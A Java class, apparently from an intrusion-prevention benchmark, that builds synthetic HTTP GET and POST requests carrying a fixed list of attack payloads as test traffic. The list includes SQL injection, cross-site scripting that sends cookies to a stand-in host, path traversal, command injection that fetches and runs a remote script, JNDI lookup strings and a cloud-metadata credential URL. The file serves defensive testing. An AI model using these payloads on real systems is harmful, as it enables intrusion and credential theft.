package ips.bench.http;

import ips.bench.http.Site.Content;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.SplittableRandom;

/** Someone who tries a list of attacks on a site, in queries and forms, with a browser's name. */
final class Attacker implements Client {
    private static final String[] ATTACKS = {
        "1' OR '1'='1' -- ",
        "-7 UNION ALL SELECT NULL,user_name,passwd FROM users#",
        "1'; WAITFOR DELAY '0:0:5'--",
        "1 AND (SELECT 5921 FROM (SELECT(SLEEP(5)))aBcD)",
        "x' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -",
        "'/**/UnIoN/**/SeLeCt/**/1,2,3--+",
        "<script>alert(document.cookie)</script>",
        "\"><img src=x onerror=alert(1)>",
        "<svg/onload=fetch('//evil.example/'+document.cookie)>",
        "javascript:alert(1)//",
        "../../../../etc/passwd",
        "..%2f..%2f..%2fwindows%2fwin.ini",
        "php://filter/convert.base64-encode/resource=index.php",
        ";cat /etc/passwd",
        "| wget http://203.0.113.9/x.sh -O- | sh",
        "$(curl http://203.0.113.9/$(whoami))",
        "${jndi:ldap://203.0.113.9:1389/a}",
        "${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "{{''.__class__.__mro__[1].__subclasses__()}}"
    };

    private final Site site;
    private final SplittableRandom random;
    private final int address;
    private final int requests;

    Attacker(Site site, SplittableRandom random) {
        this.site = site;
        this.random = random;
        address = 0xcb00_7100 + 1 + random.nextInt(254); // 203.0.113.0/24
        requests = 1 + random.nextInt(24);
    }

    @Override
    public int address() {
        return address;
    }

    @Override
    public int requests() {
        return requests;
    }

    @Override
    public boolean attacks() {
        return true;
    }

    @Override
    public Exchange next() {
        String value = URLEncoder.encode(Words.pick(ATTACKS, random), StandardCharsets.ISO_8859_1);
        String pairs = "id=" + random.nextInt(10_000) + "&" + Words.pick(random) + "=" + value;
        boolean form = random.nextInt(4) == 0;
        StringBuilder text = new StringBuilder(form ? "POST /" : "GET /");
        text.append(Words.pick(random)).append(".php").append(form ? "" : "?" + pairs);
        text.append(" HTTP/1.1\r\nHost: ").append(site.host());
        text.append("\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101");
        text.append(" Firefox/128.0\r\nAccept: */*\r\nConnection: keep-alive\r\n");
        if (form) {
            text.append("Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ");
            text.append(pairs.length()).append("\r\n\r\n").append(pairs);
        } else {
            text.append("\r\n");
        }
        return new Exchange(
                text.toString().getBytes(StandardCharsets.ISO_8859_1),
                site.respond(Content.PAGE, random));
    }
}
